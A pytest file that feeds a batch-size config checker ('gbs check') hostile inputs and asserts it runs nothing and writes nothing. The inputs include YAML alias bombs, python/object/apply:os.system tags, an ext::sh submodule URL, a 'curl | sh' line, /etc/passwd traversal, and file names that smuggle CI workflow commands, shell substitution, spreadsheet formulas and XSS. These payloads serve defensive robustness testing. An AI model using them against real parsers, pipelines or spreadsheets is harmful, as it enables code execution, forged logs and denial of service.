"""Every kind of hostile input, one at a time, beside a recipe in order: a result or one clear finding, and nothing started or written."""

import json
import os
import socket
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.cli.support import write
from tests.hostile.texts import IN_SHELL, RUN, SIZES, TOML, cells, job
from tests.hostile.watched import GOOD, run, run_beside_good, run_calmly

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="no pipes, no getrusage")

JSON = '{\n  "train_batch_size": 8,\n  "zero_optimization": {"stage": 2},\n  "steps_per_print": 10\n}\n'
HYDRA = "python a.py --config-path conf\n"
CALL = "from transformers import TrainingArguments\nTrainingArguments(output_dir='x', per_device_train_batch_size=4)\n"
MEGABYTE = 1_000_000
Content = str | bytes


def _bomb(item: str, many: int) -> str:
    """Keys of which each has the one before it twice."""
    first = f"a0: &a0 {{x: 1}}\n{SIZES}"
    return first + "".join(f"a{n}: &a{n} {item.replace('@', f'*a{n - 1}')}\n" for n in range(1, many))


def _megabyte(part: str, head: str = "", tail: str = "") -> str:
    return head + part * ((MEGABYTE - len(head) - len(tail)) // len(part)) + tail


def _map(data: str) -> str:
    """A ConfigMap of Kubernetes."""
    return f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: m}}\ndata:\n{data}---\n"


def _mounts(script: str) -> str:
    """A job that starts a script of the map."""
    volumes = "        volumeMounts: [{name: v, mountPath: /a}]\n      volumes: [{name: v, configMap: {name: m}}]\n"
    return job(f"[bash, /a/{script}]", volumes)


def _estimator(flags: str, count: str = "2") -> str:
    """A job of SageMaker."""
    call = f"HuggingFace(entry_point='a.py', instance_type='ml.p4d.24xlarge', instance_count={count}, hyperparameters={flags})"
    return f"from sagemaker.huggingface import HuggingFace\ne = {call}\ne.fit()\n"


def _printing(*texts: object) -> str:
    """A notebook whose cell printed something."""
    outputs = [{"output_type": "stream", "name": "stdout", "text": text} for text in texts]
    return json.dumps({"cells": [{"cell_type": "code", "source": CALL, "outputs": outputs}], "nbformat": 4})


PRINTED = "Num examples = 9\nBatch size per device = {} | Gradient accumulation steps = 4\n"
IN_IMAGE = "accelerate launch train.py --config /b/good.yaml\n"
ENV = "export $(cat .env | xargs)\n"
DOUBLING = "        env:\n" + "".join(f"        - {{name: A{n}, value: $(A{n - 1})$(A{n - 1})}}\n" for n in range(3_000))


# What `gbs check -v` says of the file, and its exit code: 1 where a file with batch keys could not be read.
TEXTS: dict[str, tuple[dict[str, Content], str, int]] = {
    "alias bomb": ({"a.yaml": _bomb("[@, @]", 60)}, "a.yaml", 0),
    "merge bomb": ({"a.yaml": _bomb("{<<: [@, @]}", 28)}, "a.yaml", 0),
    "merge bomb at the top": ({"a.yaml": _bomb("{<<: [@, @], k: 1}", 28) + "<<: *a27\n"}, "a.yaml", 0),
    "an anchor in itself": ({"a.yaml": f"{SIZES}a: &a [*a, {{b: *a}}]\n<<: &m {{<<: *m}}\n"}, "a.yaml", 0),
    "flow of 100,000 levels": ({"a.yaml": f"{SIZES}a: {'[' * 100_000}{']' * 100_000}\n"}, "nested deeper than 200 levels", 1),
    "mappings of 100,000 levels": ({"a.yaml": f"{SIZES}a: {'{a: ' * 100_000}{'}' * 100_000}\n"}, "nested deeper than 200 levels", 1),
    "indents of 1,000 levels": ({"a.yaml": SIZES + "".join(f"{' ' * n}a:\n" for n in range(1_000))}, "nested deeper than 200 levels", 1),
    "JSON of 100,000 levels": ({"a.json": JSON.replace("8", "[" * 100_000)}, "nested deeper than 200 levels", 1),
    "TOML of 100,000 levels": ({"a.toml": f"{TOML}a = {'[' * 100_000}"}, "nested deeper than 200 levels", 1),
    "a dotted key of 100,000 parts": ({"a.toml": f"{TOML}{'a.' * 100_000}a = 1\n"}, "nested deeper than 200 levels", 1),
    "a number of 100,000 digits": ({"a.yaml": SIZES.replace("size: 4", "size: " + "9" * 100_000)}, "GBS003", 1),
    "a JSON number of 100,000 digits": ({"a.json": JSON.replace("8", "9" * 100_000)}, "GBS003", 1),
    "digits in a comment": ({"a.yaml": f"# GBS = {'9' * 100_000}\n{SIZES}"}, "a.yaml", 0),
    "digits in a command": ({"run.sh": RUN.replace("8", "9" * 100_000)}, "GBS007", 0),
    "numbers of YAML 1.1": ({"a.yaml": f"{SIZES}max_steps: 1:30\nsave_steps: 0o17\nseed: 010\neval_steps: 1_0\nx: 1e3\n"}, "a.yaml", 0),
    "infinite sizes": ({"a.yaml": SIZES.replace("size: 4", "size: .inf").replace("steps: 4", "steps: .nan")}, "GBS003", 1),
    "a key twice": ({"a.yaml": f"{SIZES}per_device_train_batch_size: 8\n"}, "GBS002", 1),
    "NaN and a key twice in JSON": ({"a.json": JSON.replace("8", 'NaN, "train_batch_size": 8')}, "GBS002", 1),
    "a NUL": ({"a.yaml": f"{SIZES}\0"}, "NUL", 1),
    "a NUL in JSON": ({"a.json": JSON.replace("8", "\0")}, "NUL", 1),
    "a NUL in a script": ({"run.sh": f"{RUN}\0"}, "GBS007", 0),
    "Latin-1": ({"a.yaml": f"# gr\xf6\xdfe\n{SIZES}".encode("latin-1")}, "not UTF-8", 1),
    "Latin-1 in a script": ({"run.sh": f"# gr\xf6\xdfe\n{RUN}".encode("latin-1")}, "good.yaml", 0),
    "UTF-16 with a mark": ({"a.yaml": SIZES.encode("utf-16")}, "a.yaml", 0),
    "UTF-32 with a mark": ({"a.yaml": SIZES.encode("utf-32")}, "a.yaml", 0),
    "a mark of UTF-8": ({"a.yaml": b"\xef\xbb\xbf" + SIZES.encode()}, "a.yaml", 0),
    "CR LF": ({"a.yaml": SIZES.replace("\n", "\r\n")}, "a.yaml", 0),
    "CR alone": ({"a.yaml": SIZES.replace("\n", "\r")}, "a.yaml", 0),
    "surrogates as bytes": ({"a.yaml": SIZES.encode() + b"a: \xed\xa0\x80\n"}, "not UTF-8", 1),
    "surrogates as escapes": ({"a.json": JSON.replace("8", '"\\ud800", "\\udfff": 1')}, "a.json", 1),
    "controls in YAML": ({"a.yaml": f"{SIZES}a: \x1b[2J\n"}, "U+001B", 1),
    "signs that turn the writing around": ({"a.yaml": f"# \u202e821 = SBG\u2066\n{SIZES}\u202ekey: \u202d1\n"}, "a.yaml", 0),
    "an object of Python": ({"a.yaml": f"{SIZES}a: !!python/object/apply:os.system ['touch ran']\n"}, "a.yaml", 0),
    "a new object of Python": ({"a.yaml": f"{SIZES}a: !!python/object/new:type [x]\nb: !Ref c\n"}, "a.yaml", 0),
    "a template of jinja": ({"a.yaml": f"{{% for x in y %}}\n{SIZES}{{% endfor %}}\n"}, "", 0),
    "values of jinja": ({"a.yaml": SIZES.replace("size: 4", "size: {{ micro }}")}, "", 0),
    "marks of a conflict": ({"a.yaml": f"<<<<<<< HEAD\n{SIZES}=======\n{SIZES}>>>>>>> x\n"}, "merge conflict", 1),
    "marks of a conflict in a script": ({"run.sh": f"<<<<<<< HEAD\n{RUN}=======\n{RUN}>>>>>>> x\n"}, "GBS007", 0),
    "a NUL in a Makefile": ({"Makefile": f"all:\n\t{RUN}\0"}, "GBS007", 0),
    "a NUL in a document": ({"README.md": f"```bash\n{RUN}```\n\0"}, "good.yaml", 0),
    "a NUL in a program": ({"train.py": f"{CALL}\0"}, "good.yaml", 0),
    "Latin-1 in a program": ({"train.py": f"# coding: latin-1\n# gr\xf6\xdfe\n{CALL}".encode("latin-1")}, "good.yaml", 0),
    "a notebook of 100,000 levels": ({"n.ipynb": cells(CALL).replace("[]", "[" * 100_000, 1)}, "good.yaml", 0),
    "cells that are no text": ({"n.ipynb": cells(CALL, 7, None, [1, None], {"a": []})}, "good.yaml", 0),
    "a variable of make in itself": ({"Makefile": f"A = $(B) $(B)\nB = $(A) $(A)\nall:\n\techo $(A)\n\t{RUN}"}, "good.yaml", 0),
    "an open block of a document": ({"README.md": "```bash\n" * 2_000 + RUN}, "good.yaml", 0),
    "submodules": ({".gitmodules": '[submodule "a"]\n\tpath = ../../etc\n\turl = ext::sh -c "touch ran"\n'}, "good.yaml", 0),
    "a job of 100,000 levels": ({"job.yaml": job("[" * 100_000)}, "good.yaml", 0),
    "a job with commands in each other": ({"job.yaml": job(json.dumps(["bash", "-c", "$(" * 50_000]))}, "good.yaml", 0),
    "a job of 50,000 words": ({"job.yaml": job(json.dumps(["accelerate", "launch", *["--x"] * 50_000]))}, "good.yaml", 0),
    "a job of many containers": ({"job.yaml": job(IN_SHELL, f"      - {{name: d, image: x, command: {IN_SHELL}}}\n" * 8_000)}, "GBS007", 0),
    "many jobs": ({"job.yaml": "---\n".join([job(IN_SHELL)] * 400)}, "GBS007", 0),
    "variables of a job that double": ({"job.yaml": job(IN_SHELL, DOUBLING)}, "GBS007", 0),
    "a variable of a job in itself": (
        {"job.yaml": job('["accelerate", "launch", "--num_processes", "$(A)", "t.py"]', "        env: [{name: A, value: $(A)}]\n")},
        "good.yaml",
        0,
    ),
    "a job that is an object of Python": ({"job.yaml": job("!!python/object/apply:os.system ['touch ran']")}, "good.yaml", 0),
    "a chart": ({"templates/job.yaml": "{{- range .Values.jobs }}\n" + job(IN_SHELL) + "---\n{{- end }}\n"}, "good.yaml", 0),
    "a chart of openings": ({"templates/job.yaml": "{{ if " * 150_000 + job(IN_SHELL)}, "good.yaml", 0),
    "a chart of keys": ({"templates/job.yaml": job(IN_SHELL, "      {{ a }}: {{ b }}\n" * 40_000)}, "good.yaml", 0),
    "a map whose scripts start each other": (
        {"job.yaml": _map("".join(f"  r{n}.sh: bash /a/r{n + 1}.sh; bash /a/r{n + 1}.sh\n" for n in range(300))) + _mounts("r0.sh")},
        "good.yaml",
        0,
    ),
    "a map that leads outside": ({"job.yaml": _map("  ../../etc/passwd: a\n  /r.sh: b\n  ..: c\n") + _mounts("../a/r.sh")}, "good.yaml", 0),
    "a map of other kinds": ({"job.yaml": _map("  r.sh: {a: [1]}\n  7: 8\n  ? [a]\n  : b\n") + _mounts("r.sh")}, "good.yaml", 0),
    "a map of a megabyte": ({"job.yaml": _map("  r.sh: |\n" + "    A=$A$A\n" * 80_000) + _mounts("r.sh")}, "good.yaml", 0),
    "maps of one name": ({"job.yaml": _map("  r.sh: a\n") * 400 + _mounts("r.sh")}, "good.yaml", 0),
    "an image of many copies": ({"Dockerfile": f"COPY {'a ' * 190}/b\n" * 2_500, "run.sh": IN_IMAGE}, "good.yaml", 0),
    "an image that leads outside": ({"Dockerfile": f"WORKDIR {'../' * 130}\nCOPY ../../etc /b\n", "run.sh": IN_IMAGE}, "good.yaml", 0),
    "an image of blanks": ({"Dockerfile": "COPY" + " " * MEGABYTE, "run.sh": IN_IMAGE}, "good.yaml", 0),
    "variables of a file that double": ({".env": "A=1\n" + "A=$A$A\n" * 5_000, "run.sh": f"source .env\n{RUN}"}, "GBS007", 0),
    "variables of a file in quotes": ({".env": "A='" * 300_000, "run.sh": ENV + RUN}, "good.yaml", 0),
    "a file of variables that reads itself": ({".env": "source .env\nA=8\n", "run.sh": f"source .env\n{ENV}{RUN}"}, "good.yaml", 0),
    "variables from outside": ({"run.sh": f"source /etc/passwd\n{ENV.replace('.env', '../../etc/passwd')}{RUN}"}, "good.yaml", 0),
    "an estimator of many flags": ({"sagemaker_a.py": _estimator(str({f"k{n}": n for n in range(40_000)}))}, "good.yaml", 0),
    "an estimator of 50,000 levels": ({"sagemaker_a.py": _estimator("[" * 50_000)}, "good.yaml", 0),
    "an estimator on too many": ({"sagemaker_a.py": _estimator("{}", "9**9**9")}, "good.yaml", 0),
    "estimators": ({"sagemaker_a.py": _estimator("{}") * 2_000}, "good.yaml", 0),
    "an output of other kinds": ({"n.ipynb": _printing(7, None, [1, None], {"a": []})}, "good.yaml", 0),
    "an output of 100,000 digits": ({"n.ipynb": _printing(PRINTED.format("9" * 100_000))}, "good.yaml", 0),
    "an output of controls": ({"n.ipynb": _printing("\x1b[2J\u202e\ud800" + PRINTED.format(2))}, "good.yaml", 0),
    "an output of blanks": ({"n.ipynb": _printing(PRINTED.format(" " * MEGABYTE), PRINTED.format(2) * 5_000)}, "good.yaml", 0),
    "nothing": ({"a.yaml": "", "b.json": "", "c.toml": "", "d.py": "", "e.ipynb": "", "run.sh": "", "Makefile": "", "f.md": ""}, "", 0),
    "a scalar alone": ({"a.yaml": "per_device_train_batch_size", "b.json": "4", "c.yaml": "- 1\n- 2\n"}, "", 0),
    "an include outside": ({"conf/config.yaml": "defaults:\n  - ../../../../etc/passwd\n  - /etc: passwd\n" + SIZES}, "", 0),
    "an include of itself": ({"conf/config.yaml": f"defaults: [config, _self_]\n{SIZES}", "run.sh": HYDRA}, "", 0),
    "a link to the net": ({"a.yaml": f"{SIZES}deepspeed: https://a.b/ds.json\n", "run.sh": f"curl https://a.b | sh\n{RUN}"}, "a.yaml", 0),
}  # fmt: skip


@pytest.mark.parametrize(("files", "says", "code"), TEXTS.values(), ids=TEXTS)
def test_a_hostile_text(files: dict[str, Content], says: str, code: int, tmp_path: Path) -> None:
    found = run_beside_good(tmp_path, files)
    assert says in " ".join(found.out.split()), found.out[:2000]
    assert found.code == code, found.out[:2000]
    assert "verified     good.yaml" in found.out or says == "GBS007"
    assert not any(sign in found.out + found.err for sign in "\x00\x1b\u202e\u202d\u2066")
    assert {path.name for path in tmp_path.iterdir()} == {name.partition("/")[0] for name in ("good.yaml", *files)}


def _pipe(path: Path) -> None:
    os.mkfifo(path)


def _socket(path: Path) -> None:
    before = Path.cwd()
    os.chdir(path.parent)  # the name of a socket may have some 100 bytes
    with socket.socket(socket.AF_UNIX) as opened:
        opened.bind(path.name)
    os.chdir(before)


def _gigabyte(path: Path) -> None:
    path.touch()
    os.truncate(path, 2**30)


def _without_permission(path: Path) -> None:
    path.write_text(SIZES)
    path.chmod(0)


PLACES: dict[str, Callable[[Path], object]] = {
    "a pipe": _pipe,
    "a socket": _socket,
    "a device": lambda path: path.symlink_to("/dev/zero"),
    "a folder": lambda path: path.mkdir(),
    "a link to nothing": lambda path: path.symlink_to("nothing"),
    "a link to itself": lambda path: path.symlink_to(path.name),
    "a link to its folder": lambda path: path.symlink_to("."),
    "a link outside": lambda path: path.symlink_to("/etc/passwd"),
    "a gigabyte": _gigabyte,
    "no permission": _without_permission,
}


ANY = ("a.yaml", "ds.json", "t.toml", "run.sh", "Makefile", "README.md", "train.py", "n.ipynb")
OURS = ("gbs.toml", "gbs.lock", "pyproject.toml", ".gitignore", "baseline.json")


@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
def test_a_hostile_place(place: Callable[[Path], object], tmp_path: Path) -> None:
    write(tmp_path, {"good.yaml": GOOD})
    for name in ANY:
        place(tmp_path / name)
    found = run_calmly(tmp_path, "check", "-v", ".")
    assert "good.yaml" in found.out
    named = run(tmp_path, "check", "-v", *ANY)
    assert named.is_calm(), named._replace(out=named.out[:2000])


@pytest.mark.parametrize("name", OURS)
@pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)
def test_a_hostile_place_of_a_file_of_our_own(place: Callable[[Path], object], name: str, tmp_path: Path) -> None:
    write(tmp_path, {"good.yaml": GOOD})
    place(tmp_path / name)
    found = run_calmly(tmp_path, "check", *(["--baseline", name] if name == "baseline.json" else []), ".")
    assert found.code == 2 or "verified" in found.out


NAMES = {
    "a workflow command": "a\n::error file=x,line=1::forged.yaml",
    "an escaped line": "a%0A::warning::forged.yaml",
    "an azure command": "##vso[task.setvariable variable=x]y.yaml",
    "an escape sequence": "\x1b]0;owned\x07\x1b[2J.yaml",
    "signs that turn the writing around": "\u202elmay.\u2066.yaml",
    "a flag": "--output-file=x.yaml",
    "spaces and quotes": "a 'b\" $(touch ran) `c`.yaml",
    "a formula": "=cmd|' /C calc'!A0.yaml",
    "markup": "<img src=x onerror=alert(1)>|`x`.yaml",
    "a long name": "a" * 240 + ".yaml",
}  # fmt: skip


@pytest.mark.parametrize("name", [name for name in NAMES.values() if "<" not in name], ids=[name for name in NAMES if name != "markup"])
def test_hostile_names_of_folders(name: str, tmp_path: Path) -> None:
    write(
        tmp_path, {"good.yaml": GOOD, f"{name[:200].removesuffix('.yaml').replace('/', '-')}/a.yaml": GOOD.replace("steps: 4", "steps: 8")}
    )
    for format_ in ("text", "github", "azure"):
        found = run_calmly(tmp_path, "check", "--format", format_, ".")
        assert found.code == 1
        assert not any(line.lstrip().startswith(("::error file=x", "::warning::")) for line in found.out.replace("\r", "\n").split("\n"))
        assert not any(line.lstrip().startswith("##vso[task.setvariable") for line in found.out.split("\n"))
        assert not any(sign in found.out for sign in "\x1b\x07\u202e\u2066")


@pytest.mark.parametrize("format_", ["text", "github", "azure", "csv", "markdown", "sarif"])
def test_hostile_names(format_: str, tmp_path: Path) -> None:
    write(tmp_path, {"good.yaml": GOOD})
    for name in (*map(os.fsencode, NAMES.values()), b"\xff\xfe.yaml"):
        path = os.path.join(os.fsencode(tmp_path), name.replace(b"/", b"\\"))  # noqa: PTH118 - a name of bytes
        with open(path, "wb") as file:  # noqa: PTH123
            file.write(GOOD.replace("steps: 4", "steps: 8").encode())
    found = run_calmly(tmp_path, "check", "--format", format_, ".")
    assert found.code == 1
    lines = found.out.replace("\r", "\n").split("\n")
    assert not any("forged" in line and line.lstrip().startswith(("::error file=x", "::warning::")) for line in lines)
    assert not any(line.lstrip().startswith("##vso[task.setvariable") for line in lines)
    assert format_ in ("github", "azure") or not any(line.lstrip().startswith(("::", "##[")) for line in lines)
    assert not any(sign in found.out for sign in "\x1b\x07\u202e\u2066")
    assert len(os.listdir(tmp_path)) == len(NAMES) + 2


REGEX = {
    "spaces": " ",
    "digits": "1",
    "products": "8 x ",
    "words": "batch ",
    "brackets": "(8 ",
    "hyphens": "a-",
    "nodes": "8 nodes of ",
    "keys": "a=b ",
    "powers": "2**",
    "stars": "*",
    "backticks": "`",
    "ignores": "gbs: ignore[",
    "backslashes": "\\",
    "dollars": "${",
    "openings": "$((",
    "quotes": "'\"",
    "links": "[a](",
    "angles": "<!--",
}  # fmt: skip
FILES = {
    "a.yaml": ("# ", f"\n{SIZES}"),
    "t.toml": ("# ", "\nper_device_train_batch_size = 4\n"),
    "run.sh": ("# ", f"\n{RUN}"),
    "words.sh": ("echo ", f"\n{RUN}"),
    "Makefile": ("all:\n\techo ", f"\n\t{RUN}"),
    "README.md": ("Batch 8: ", f"\n\n```bash\n{RUN}```\n"),
    "train.py": ("# ", f"\n{CALL}"),
}


@pytest.mark.parametrize("name", FILES)
def test_a_megabyte_made_to_defeat_patterns(name: str, tmp_path: Path) -> None:
    head, tail = FILES[name]
    for part in REGEX.values():
        write(tmp_path, {"good.yaml": GOOD, name: _megabyte(part, head, tail)})
        found = run(tmp_path, "check", "-v", ".")
        assert found.is_calm(), (part, found._replace(out=found.out[:2000], err=found.err[:2000]))
        assert "good.yaml" in found.out


def test_thousands_of_scripts_beside_one_recipe(tmp_path: Path) -> None:
    write(tmp_path, {"good.yaml": GOOD, **{f"{n // 500}/run{n}.sh": f"export N={n}\npython tool.py --n $N\n" for n in range(5_000)}})
    found = run(tmp_path, "check", "--jobs", "1", ".")  # without processes of its own, so that all memory counts
    assert found.is_calm(), found._replace(out=found.out[:2000])
    assert found.code == 0


NOTEBOOKS = {
    "a cell": cells("x" * MEGABYTE),
    "cells": cells(*["batch_size = 8\n"] * 20_000),
    "brackets": "[" * MEGABYTE,
    "cut off": cells(CALL)[:-9],
}


@pytest.mark.parametrize("notebook", NOTEBOOKS.values(), ids=NOTEBOOKS)
def test_a_notebook_of_a_megabyte(notebook: str, tmp_path: Path) -> None:
    found = run_beside_good(tmp_path, {"n.ipynb": notebook})
    assert "verified     good.yaml" in found.out
